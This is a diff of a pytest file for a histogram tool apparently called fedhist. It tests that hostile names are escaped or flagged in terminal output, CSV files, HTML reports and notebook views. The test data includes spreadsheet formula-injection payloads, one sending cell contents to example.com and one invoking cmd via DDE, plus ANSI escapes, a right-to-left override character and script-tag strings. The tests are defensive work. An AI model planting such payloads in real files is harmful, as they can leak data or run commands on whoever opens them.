@@ -2,18 +2,16 @@
 
 from __future__ import annotations
 
-import csv
 import json
 import unicodedata
-from collections.abc import Callable
 from pathlib import Path
-from typing import Any
 
 import pytest
 
+import fedhist as library
 from fedhist.display.visible_text import is_formula, is_hidden, visible
+from tests.builders import Fedhist, document_in, page_in, rows_of, write_records
 
-Fedhist = Callable[..., Any]
 NAMES = [
     '=HYPERLINK("http://example.com/?x="&A1,"click")',
     "@SUM(1+9)*cmd|' /C calc'!A0",
@@ -33,13 +31,8 @@ NAMES = [
 @pytest.fixture
 def hostile(tmp_path: Path) -> Path:
     """Thirty users who have all of the names, in a file whose name is one of them."""
-    path = tmp_path / "\x1b[31mdata [bold]\u202e$x.csv"
-    with path.open("w", newline="", encoding="utf-8") as file:
-        writer = csv.writer(file)
-        writer.writerow(["user", "item", "count"])
-        for user in range(30):
-            writer.writerows([f"u{user}", name, 40 - place] for place, name in enumerate(NAMES))
-    return path
+    rows = [(f"u{user}", name, 40 - place) for user in range(30) for place, name in enumerate(NAMES)]
+    return write_records(tmp_path / "\x1b[31mdata [bold]\u202e$x.csv", rows)
 
 
 def is_clean(text: str) -> bool:
@@ -49,11 +42,6 @@ def is_clean(text: str) -> bool:
         for character in text
         if character != "\n"
     )
-
-
-def items_of(path: Path) -> list[str]:
-    with path.open(newline="", encoding="utf-8") as file:
-        return [row["item"] for row in csv.DictReader(file)]
 
 
 RUN = ("--seed", 1, "--epsilon", 1e4, "--max-threshold", 2000)
@@ -75,7 +63,7 @@ class TestTerminal:
             ("ledger", "show", "\x1b[1ml.db"),
             ("ledger", "limit", "\x1b[1ml.db", "--epsilon", 1e6, "--delta", 0.1),
             ("plan", "--data", hostile, "--epsilon", "1", "--csv", "\x1b[1mp.csv"),
-            ("compare", "--data", hostile, "--selectors", "oracle", "--trials", 2, "--out", "\x1b[1mcmp"),
+            ("compare", "--data", hostile, "--selectors", "oracle", "--workers", 1, "--trials", 2, "--out", "\x1b[1mc"),
         ]  # fmt: skip
         for command in commands:
             outcome = fedhist(*command)
@@ -83,6 +71,9 @@ class TestTerminal:
             assert is_clean(outcome.out), (command, outcome.out)
             assert is_clean(outcome.err), (command, outcome.err)
             assert "\nfaked" not in outcome.out
+            # Brackets are no markup.
+            if command[0] == "run" or command[:2] == ("ledger", "show"):
+                assert "[bold]" in outcome.out
 
     @pytest.mark.parametrize(
         "command",
@@ -125,42 +116,36 @@ class TestFiles:
         self, fedhist: Fedhist, hostile: Path
     ) -> None:
         """Programs look names up: one that is changed is another item. A person is told what a spreadsheet does."""
-        for flags in (RUN, OPEN):
-            folder = Path("open" if flags is OPEN else "closed")
+        for folder, flags in (("closed", RUN), ("open", OPEN)):
             outcome = fedhist("run", "--data", hostile, *flags, "--out", folder)
             assert outcome.code == 0, outcome.err
-            assert set(items_of(folder / "histogram.csv")) == set(NAMES)
-            notes = json.loads((folder / "result.json").read_text())["notes"]
-            assert any(
-                "4 of the names in histogram.csv would be formulas in a spreadsheet" in n for n in notes
-            )
-            assert any("6 of the names in histogram.csv have invisible characters" in n for n in notes)
+            assert {row["item"] for row in rows_of(Path(folder, "histogram.csv"))} == set(NAMES)
+            notes = "\n".join(document_in(folder)["notes"])
+            assert "4 of the names in histogram.csv would be formulas in a spreadsheet" in notes
+            assert "6 of the names in histogram.csv have invisible characters" in notes
             assert "note: 4 of the names in histogram.csv" in outcome.out
 
     def test_what_is_written_can_be_read_as_a_report_again(self, fedhist: Fedhist, hostile: Path) -> None:
         assert fedhist("run", "--data", hostile, *RUN, "--out", "r").code == 0
         assert fedhist("report", "r", "--force").code == 0
-        page = Path("r/report.html").read_text(encoding="utf-8")
-        assert is_clean(page)
-        assert "<script>alert" not in page
+        assert is_clean(page_in("r").text)
+        assert "<script>alert" not in page_in("r").text
 
     def test_ordinary_names_and_numbers_get_no_note(self, fedhist: Fedhist, tmp_path: Path) -> None:
-        rows = "".join(
-            f"u{user},{item}\n" for user in range(9) for item in ("a b", "-5", "+3.5", "naïve", "🏳️‍🌈")
-        )
-        (tmp_path / "d.csv").write_text("user,item\n" + rows, encoding="utf-8")
-        assert "histogram.csv" not in " ".join(
-            fedhist("run", "--data", "d.csv", "--json").document()["notes"]
-        )
+        names = ("a b", "-5", "+3.5", "naïve", "🏳️‍🌈")
+        write_records(tmp_path / "d.csv", [(f"u{user}", name, 1) for user in range(9) for name in names])
+        notes = fedhist("run", "--data", "d.csv", "--json").document()["notes"]
+        assert "histogram.csv" not in " ".join(notes)
 
     def test_a_page_of_a_notebook_escapes_names(self, hostile: Path) -> None:
-        import fedhist as library
-
         population = library.read_population(hostile)
         plan = library.Plan(users=population.users, domain="open", epsilon=1e4, max_threshold=2000)
         shown = library.simulate(population, plan, seed=1)._repr_html_()
         assert is_clean(shown)
         assert "<script>" not in shown
+        assert "&lt;script&gt;alert(1)" in shown
+        assert "turned ⟨U+202E⟩round" in shown
+        assert "simulation only" in shown
 
 
 def test_what_is_a_formula_and_what_is_hidden() -> None:
